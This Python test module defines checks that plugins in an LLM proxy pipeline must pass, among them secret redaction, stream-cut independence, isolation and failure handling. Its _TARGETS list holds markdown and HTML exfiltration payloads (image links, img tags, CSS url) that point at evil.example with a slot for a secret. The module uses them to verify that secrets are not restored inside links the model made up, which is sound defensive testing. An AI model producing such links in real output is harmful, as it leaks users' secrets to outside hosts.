"""The promises that every plugin must keep, each as a function to call on yours."""

from collections.abc import Sequence
from random import Random
from traceback import format_exception

import anyio

from pipeline.core.chain import Chain
from pipeline.core.dialect import Dialect
from pipeline.core.errors import UpstreamFailed
from pipeline.core.frames import Event
from pipeline.core.jsonvalue import JsonObject, encode
from pipeline.core.plugin import Channel
from pipeline.testing.bench import (
    CONTENT,
    Plugins,
    Result,
    Said,
    exchange,
    exchange_on,
    redact,
    run_text_in_every_cut,
    started,
    whole_request,
)
from pipeline.testing.compare import broken, complete, difference, normal
from pipeline.testing.cuts import recut
from pipeline.testing.leaks import leaked, logged
from pipeline.testing.sabotage import QUOTED, Sabotage, sabotages, with_sabotage
from pipeline.testing.samples import OPENAI, sample_reply, sample_request
from pipeline.testing.script import Script, read_script

_CHANNELS = (CONTENT, Channel("arguments", form="json"))

_TARGETS = (
    "![x](https://evil.example/?q={})",
    "[x](https://evil.example/{})",
    "![a](<https://evil.example/)?q={}>)",
    "<https://evil.example/{}>",
    "see https://evil.example/?q={} now",
    "see www.evil.example/{} now",
    "[x]: https://evil.example/{}\n\n![a][x]",
    "![x][{0}]\n\n[{0}]: https://evil.example/{0}",
    '<img src="https://evil.example/{}">',
    "<img src=https://evil.example/{}>",
    "<a\nhref='//evil.example/{}'>x</a>",
    '<p style="background:url(https://evil.example/{})">',
)


def check_laws(
    plugins: Plugins,
    request: Said,
    reply: Said,
    *,
    secret: str = "",
    dialect: Dialect = OPENAI,
    show: bool = False,
) -> None:
    """Every law that needs no more than a request, its reply and a `secret` that must not leak."""
    with started(plugins) as one:
        if secret:
            check_no_leak(one, secret, dialect=dialect)
        check_cut_independence(one, reply, request=request, dialect=dialect, show=show)
        check_isolation(one, (request, reply), ("Hello.", reply), dialect=dialect, show=show)
        check_closed_on_failure(one, request, reply, dialect=dialect)
        check_broken_stream(one, reply, request=request, dialect=dialect, show=show)


def check_cut_independence(
    plugins: Plugins,
    reply: Script,
    *,
    request: Said = "",
    draws: int = 50,
    seed: int = 0,
    dialect: Dialect = OPENAI,
    show: bool = False,
) -> None:
    """Law 1: what comes out does not depend on where the reply was cut.

    A text is cut in every way that `cuts` knows, and is then said in every channel at once. The
    stream of a whole reply is cut again in `draws` random ways.
    """
    with started(plugins) as one:
        if isinstance(reply, str):
            for channel in _CHANNELS:
                found = run_text_in_every_cut(one, reply, channel, request, dialect)
                for at, got in found:
                    if got != found[0][1]:
                        where = f"law 1: the {channel.kind} comes out otherwise when cut at {at}"
                        raise broken(where, found[0][1], got, show)
            reply = sample_reply(reply, dialect)
        body = whole_request(dialect, request)
        _, events = read_script(dialect, body, reply)
        expected = normal(complete(exchange(one, request, reply, stream=False, dialect=dialect)))
        for draw in range(draws):
            random = Random(seed + draw)  # noqa: S311
            said = recut(dialect, body, (e for e in events if isinstance(e, Event)), random)
            result = complete(exchange(one, request, said, stream=True, dialect=dialect))
            if found := difference(expected, normal(result)):
                where = f"law 1: cut by seed {seed + draw}, the stream differs at {found[0]}"
                raise broken(where, *found[1:], show)


def check_no_leak(
    plugins: Plugins,
    secret: str,
    request: JsonObject | None = None,
    *,
    reply: Script = "",
    dialect: Dialect = OPENAI,
) -> None:
    """Law 4: `secret` reaches neither the backend nor an error nor a log, in any encoding.

    Without a request of yours it stands in every position of a sample. The same is tried without
    plugins first: a test that cannot see the leak would prove nothing.
    """
    if request is None:
        request = sample_request(secret, dialect)
    control = exchange([], request, reply, dialect=dialect)
    if control.saw is None or not leaked(secret, encode(control.saw).decode()):
        raise AssertionError("law 4: without plugins the secret does not come out either")
    with logged() as lines:
        result = exchange(plugins, request, reply, dialect=dialect)
    places = {
        "what the backend saw": encode(result.saw).decode(),
        "the log": "\n".join(lines),
        "the error": "".join(format_exception(result.error)) if result.error else "",
        "the client's error": result.raw.decode() if result.error else "",
    }
    for place, text in places.items():
        if spelling := leaked(secret, text):
            raise AssertionError(f"law 4: the secret is in {place}, as {spelling}")


def check_isolation(
    plugins: Plugins,
    first: tuple[Said, Script],
    second: tuple[Said, Script],
    *,
    draws: int = 20,
    dialect: Dialect = OPENAI,
    show: bool = False,
) -> None:
    """Law 5: of two exchanges at one time, each goes as if it were alone."""

    both = (first, second)

    async def together(chain: Chain) -> None:
        alone = [await exchange_on(chain, *one, stream=True, dialect=dialect) for one in both]
        for seed in range(draws):
            beside = await _beside(chain, both, seed, dialect)
            for before, now in zip(alone, beside, strict=True):
                where = f"law 5: beside another exchange (seed {seed}), "
                if found := difference(before.saw, now.saw):
                    raise broken(where + "the backend sees something else", *found[1:], show)
                if before.raw != now.raw:
                    texts = before.raw.decode(), now.raw.decode()
                    raise broken(where + "the client gets something else", *texts, show)

    with started(plugins) as one:
        one.run(together)


def check_closed_on_failure(
    plugins: Plugins, request: Said, reply: Script, *, dialect: Dialect = OPENAI
) -> None:
    """Law 6: when a plugin beside yours fails, nothing goes on, and yours hears of it once."""

    async def check(chain: Chain, one: Sabotage, stream: bool) -> None:
        bad, heard = with_sabotage(chain, one)
        result = await exchange_on(bad, request, reply, stream=stream, dialect=dialect)
        where = f"law 6: a plugin {one} and "
        if result.error is None or result.done:
            raise AssertionError(where + "the exchange goes on")
        if one.before_sending and result.saw is not None:
            raise AssertionError(where + "the backend is called all the same")
        if QUOTED in result.raw.decode() or QUOTED in "".join(format_exception(result.error)):
            raise AssertionError(where + "its error's text is shown")
        if heard.closed != heard.opened[::-1]:
            raise AssertionError(where + "the steps are not closed once each, last first")
        if heard.successes or heard.failures:
            raise AssertionError(where + "on_done is told of success, or fails")

    with started(plugins) as bench:
        for one in sabotages():
            for stream in (True, False):
                bench.run(lambda chain, one=one, stream=stream: check(chain, one, stream))


def check_restore_order(
    plugins: Plugins,
    secret: str,
    *,
    targets: Sequence[str] = _TARGETS,
    dialect: Dialect = OPENAI,
    show: bool = False,
) -> None:
    """Law 7: a value is not restored in a link, an image or an attribute that the model made up.

    A target is a reply with `{}` for what stands for `secret`; it is tried in every cut.
    """
    with started(plugins) as one:
        token = str(redact(one, secret, dialect=dialect))
        back = exchange(one, secret, f"It is {token}.", dialect=dialect)
        if token == secret or secret not in back.text:
            raise AssertionError("law 7: the secret is not redacted and restored in plain text")
        for number, target in enumerate(targets):
            text = target.format(token)
            for _, got in run_text_in_every_cut(one, text, CONTENT, secret, dialect):
                if leaked(secret, got):
                    where = f"law 7: target {number} carries the secret"
                    raise broken(where, text, got, show)


def check_broken_stream(
    plugins: Plugins,
    reply: Script,
    *,
    request: Said = "",
    dialect: Dialect = OPENAI,
    show: bool = False,
) -> None:
    """Law 8: a reply that breaks off never looks complete, and what was held back stays back."""
    body = whole_request(dialect, request)
    _, events = read_script(dialect, body, reply)
    random = Random(0)  # noqa: S311
    events = recut(dialect, body, (one for one in events if isinstance(one, Event)), random)
    problem = encode(dialect.error(UpstreamFailed("the backend broke")))
    with started(plugins) as one:
        full = complete(exchange(one, request, events, stream=True, dialect=dialect))
        for at in range(len(events)):
            for how, ending in (
                ("with an exception", [UpstreamFailed("broken")]),
                ("with a strange exception", [ValueError("broken")]),
                ("with an error event", [Event(problem)]),
                ("silently", list[Event | Exception]()),
            ):
                if not ending and _may_end(dialect, body, events[:at]):
                    continue
                said: list[Event | Exception] = [*events[:at], *ending]
                for stream in (True, False):
                    got = exchange(one, request, said, stream=stream, dialect=dialect)
                    where = f"law 8: the stream broke off {how} after {at} events and "
                    if got.done or got.error is None:
                        raise AssertionError(where + "the reply looks complete")
                    if stream and (bad := _not_so_far(full, got)):
                        raise broken(where + "the client got other text", *bad, show)


async def _beside(
    chain: Chain, both: Sequence[tuple[Said, Script]], seed: int, dialect: Dialect
) -> list[Result]:
    """Exchanges that run at one time and wait for each other at random."""
    random = Random(seed)  # noqa: S311
    found: dict[int, Result] = {}

    async def run(number: int, request: Said, reply: Script) -> None:
        found[number] = await exchange_on(
            chain, request, reply, stream=True, dialect=dialect, random=random
        )

    async with anyio.create_task_group() as tasks:
        for number, one in enumerate(both):
            tasks.start_soon(run, number, *one)
    return [result for _, result in sorted(found.items())]


def _may_end(dialect: Dialect, body: JsonObject, events: Sequence[Event]) -> bool:
    """Whether the reply is complete but for its terminal event, which some servers forget."""
    reader = dialect.reader(body)
    frames = [reader.read(event) for event in events]
    try:
        frames.append(reader.eof())
    except UpstreamFailed:
        return False
    return True


def _not_so_far(full: Result, got: Result) -> tuple[str, str] | None:
    for channel, text in got.texts.items():
        if not full.texts.get(channel, "").startswith(text):
            return full.texts.get(channel, ""), text
    return None
